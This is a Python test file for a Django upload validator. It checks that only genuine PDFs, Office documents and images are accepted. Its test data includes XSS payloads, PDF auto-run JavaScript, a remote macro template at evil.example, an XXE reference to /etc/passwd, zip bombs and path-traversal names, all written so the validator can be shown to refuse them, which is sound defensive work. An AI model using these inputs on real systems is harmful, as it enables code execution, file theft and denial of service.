"""What an uploaded file really is: what is taken, and everything that only looks like it."""

from __future__ import annotations

import contextlib
import io
import random
import time
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st

from goldenthread.hub.maturity import attachments
from goldenthread.hub.maturity.file_types import Refused, file_type, named_type
from goldenthread.hub.maturity.packed import MOST_PARTS
from goldenthread.hub.plans.grids.faults import GridFault
from goldenthread.hub.plans.grids.zipped import opened
from tests.made.files import JPEG, PDF, PNG, an_office_file


def with_packed_objects(objects: bytes) -> bytes:
    """A PDF with these objects in a stream."""
    stream = b"<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(objects) + b"\nendstream\n"
    return PDF.replace(b"trailer", stream + b"trailer")


GOOD = {
    "opens-at-a-page.pdf": PDF.replace(b"/Catalog", b"/Catalog/OpenAction[1 0 R/Fit]"),
    "packed.pdf": with_packed_objects(b"<</Type/Page>>"),
    "report.pdf": PDF,
    "minutes.docx": an_office_file("word/document.xml"),
    "figures.xlsx": an_office_file("xl/workbook.xml"),
    "slides.pptx": an_office_file("ppt/presentation.xml"),
    "photo.png": PNG,
    "photo.jpg": JPEG,
    "PHOTO.JPEG": JPEG,
}


@pytest.mark.parametrize("name", GOOD)
def test_documents_and_pictures_are_taken(name: str) -> None:
    assert name.lower().endswith(file_type(name, GOOD[name]).endings)
    assert named_type(name) == file_type(name, GOOD[name])


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("plan.docm", an_office_file("word/document.xml"), "macros"),
        ("sheet.xlsm", an_office_file("xl/workbook.xml"), "macros"),
        ("sheet.xlsx", an_office_file("xl/workbook.xml", "xl/vbaProject.bin"), "macros"),
        ("sheet.xlsx", an_office_file("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), "macros"),
        ("plan.docx", an_office_file("word/document.xml", "word/activeX/activeX1.bin"), "macros"),
        ("plan.docx", an_office_file("word/document.xml", kinds="macroEnabled.main+xml"), "macros"),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "Save the file as .docx"),
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "Save the file as .xlsx"),
        ("setup.exe", b"MZ\x90\x00", "are not taken"),
        ("page.html", b"<script>alert(1)</script>", "are not taken"),
        ("drawing.svg", b"<svg onload='alert(1)'/>", "are not taken"),
        ("archive.zip", an_office_file("word/document.xml"), "are not taken"),
        ("noending", PDF, "are not taken"),
        ("report.pdf", b"MZ\x90\x00" + b"\x00" * 100, "no PDF file inside"),
        ("report.pdf", b"%PDF-1.7 cut off", "no PDF file inside"),
        ("report.pdf", b"<html>%PDF-1.7 %%EOF", "no PDF file inside"),
        ("minutes.docx", an_office_file("xl/workbook.xml"), "no Word file inside"),
        ("minutes.docx", PDF, "no Word file inside"),
        ("minutes.docx", b"PK\x03\x04 not really", "no Word file inside"),
        ("photo.png", JPEG, "no PNG file inside"),
        ("photo.png", PNG + an_office_file("word/document.xml"), "no PNG file inside"),
        ("photo.png", PNG[:8] + b"<html><script>alert(1)</script>" + PNG[-8:], "no PNG file inside"),
        ("report.pdf", PDF[:9] + b"<html><script>alert(1)</script>" + PDF[9:], "no PDF file inside"),
        ("report.pdf", b"%PDF-1.7\nnothing\n%%EOF", "no PDF file inside"),
        ("report.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(1)>>"), "runs when it is read"),
        (
            "report.pdf",
            PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Java#53cript/JS(1)>>"),
            "runs when it is read",
        ),
        ("report.pdf", with_packed_objects(b"<</OpenAction<</S/JavaScript/JS(1)>>>>"), "runs when it is read"),
        ("photo.jpg", JPEG[:10], "no JPEG file inside"),
        ("empty.pdf", b"", "empty"),
        ("report.pdf.exe", PDF, "are not taken"),
    ],
)
def test_what_is_not_what_it_says_is_refused_with_what_to_do(name: str, content: bytes, words: str) -> None:
    with pytest.raises(Refused, match=words):
        file_type(name, content)


def packed_with(**parts: bytes) -> bytes:
    """A document with these parts beside the two that it must have, each by its name with __ for /."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        whole = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"x", "xl/workbook.xml": b"x"}
        for name, content in {**whole, **{key.replace("__", "/"): value for key, value in parts.items()}}.items():
            packed.writestr(name, content)
    return made.getvalue()


@pytest.mark.parametrize(
    "bomb",
    [
        {"word__media__zeros.bin": b"\x00" * (301 * 1024 * 1024)},
        {"word__media__zeros.bin": b"\x00" * (40 * 1024 * 1024)},
        {"[Content_Types].xml": b"<Types>" + b" " * (290 * 1024 * 1024)},
    ],
    ids=["more than may be", "a thousand times itself", "a list of spaces"],
)
def test_a_file_that_unpacks_to_far_more_than_it_is_is_refused_at_once(bomb: dict[str, bytes]) -> None:
    content = packed_with(**bomb)
    assert len(content) < 1024 * 1024
    began = time.process_time()
    with pytest.raises(Refused, match="unpacks to far more"):
        file_type("bomb.docx", content)
    with pytest.raises(GridFault, match="unpacks to far more"):
        opened(content)
    assert time.process_time() - began < 0.2


def test_a_list_that_is_too_long_is_not_read_whole() -> None:
    long = b"<Types>" + random.Random(1).randbytes(3 * 1024 * 1024).hex().encode()
    with pytest.raises(Refused, match="unpacks to far more"):
        file_type("long.docx", packed_with(**{"[Content_Types].xml": long}))


RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def leading(kind: str, target: str, mode: str = "") -> bytes:
    """A list of what a part leads to, with one thing in it."""
    return f'<Relationships><Relationship Id="1" Type="{kind}" Target="{target}" {mode}/></Relationships>'.encode()


EXTERNAL = 'TargetMode="External"'
TEMPLATE = leading(f"{RELATIONS}/attachedTemplate", "https://evil.example/x.dotm", EXTERNAL)


@pytest.mark.parametrize(
    ("part", "content", "words"),
    [
        ("word/_rels/settings.xml.rels", TEMPLATE, "fetches its template"),
        ("word/_rels/SETTINGS.XML.RELS", TEMPLATE.replace(b"attached", b"attach&#101;d"), "fetches its template"),
        ("word/_rels/document.xml.rels", leading(f"{RELATIONS}/oleObject", "embeddings/o.bin"), "another programme"),
        (
            "word/_rels/document.xml.rels",
            leading(f"{RELATIONS}/oleObject", "file://x/o", EXTERNAL),
            "another programme",
        ),
        ("word/_rels/document.xml.rels", leading("http://x/vbaProject", "a.bin"), "macros"),
        ("word/_rels/settings.xml.rels", TEMPLATE.decode().encode("utf-16"), "no office programme"),
        ("word/_rels/settings.xml.rels", b'<?xml version="1.0" encoding="utf-7"?>' + TEMPLATE, "no office programme"),
        ("word/_rels/settings.xml.rels", b'<!DOCTYPE x [<!ENTITY a "vba">]>' + TEMPLATE, "no office programme"),
        ("word/document.xml", b'<!DOCTYPE x [<!ENTITY a "lol">]><w:document/>', "no office programme"),
        (
            "xl/sharedStrings.xml",
            b'<?xml version="1.0"?><!-- --> <!doctype x SYSTEM "file:///etc/passwd"><sst/>',
            "no office",
        ),
        ("word/document.xml", "<!DOCTYPE x><w:document/>".encode("utf-16"), "no office programme"),
        ("word/document.xml", b" " * 17000 + b"<!DOCTYPE x><w:document/>", "no office programme"),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink><ddeLink/></externalLink>", "from elsewhere"),
        ("word/_rels/document.xml.rels", leading(f"{RELATIONS}/image", "https://x/y.png", EXTERNAL), "a picture"),
        ("word/_rels/document.xml.rels", leading(f"{RELATIONS}/aFChunk", "https://x/y", EXTERNAL), "from elsewhere"),
        (
            "word/_rels/document.xml.rels",
            leading(f"{RELATIONS}/image", "x", 'TargetMode="Extern&#97;l"'),
            "from elsewhere",
        ),
        ("[Content_Types].xml", "<Types>macroEnabled</Types>".encode("utf-16"), "no office programme"),
    ],
)
def test_what_runs_or_fetches_is_refused_however_it_is_written(part: str, content: bytes, words: str) -> None:
    with pytest.raises(Refused, match=words):
        file_type("plan.docx", packed_with(**{part: content}))


@pytest.mark.parametrize("kind", ["hyperlink", "externalLinkPath"])  # published workbooks hold both
def test_a_link_that_asks_before_it_is_followed_is_no_harm(kind: str) -> None:
    link = leading(f"{RELATIONS}/{kind}", "https://www.gov.uk/?a=1&amp;b=2", EXTERNAL)
    assert file_type("plan.docx", packed_with(**{"word/_rels/document.xml.rels": link})).name == "Word"


def test_a_file_of_too_many_parts_is_refused() -> None:
    many = an_office_file("word/document.xml", *(f"word/part{n}.xml" for n in range(MOST_PARTS)))
    with pytest.raises(Refused, match="unpacks to far more"):
        file_type("many.docx", many)


@given(st.sampled_from([".pdf", ".docx", ".xlsx", ".pptx", ".png", ".jpg"]), st.binary(max_size=300))
def test_no_bytes_at_all_make_it_fail_otherwise_than_by_refusing(ending: str, content: bytes) -> None:
    with contextlib.suppress(Refused):
        file_type(f"file{ending}", content)


@given(st.sampled_from(sorted(GOOD)), st.integers(0, 400), st.binary(min_size=1, max_size=4))
def test_spoilt_good_files_are_taken_or_refused_and_nothing_else(name: str, place: int, spoil: bytes) -> None:
    content = GOOD[name]
    place %= len(content)
    with contextlib.suppress(Refused):
        file_type(name, content[:place] + spoil + content[place + len(spoil) :])


@pytest.mark.parametrize(
    ("name", "plain"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\files\\report.pdf", "report.pdf"),
        ('re"port\r\n.pdf', "report.pdf"),
        ("", "file"),
        ("x" * 300 + ".pdf", "x" * 120 + ".pdf"),
    ],
)
def test_names_are_kept_without_folders_and_without_what_a_header_takes_amiss(name: str, plain: str) -> None:
    assert attachments.plain_name(name) == plain


def test_a_good_file_is_kept_under_its_digest_and_readable_by_the_site_alone() -> None:
    kept = attachments.keep(SimpleUploadedFile("report.pdf", PDF))
    path = attachments.path_of(kept.digest)
    assert path.read_bytes() == PDF
    assert path.stat().st_mode & 0o077 == 0
    assert (kept.name, kept.size) == ("report.pdf", len(PDF))
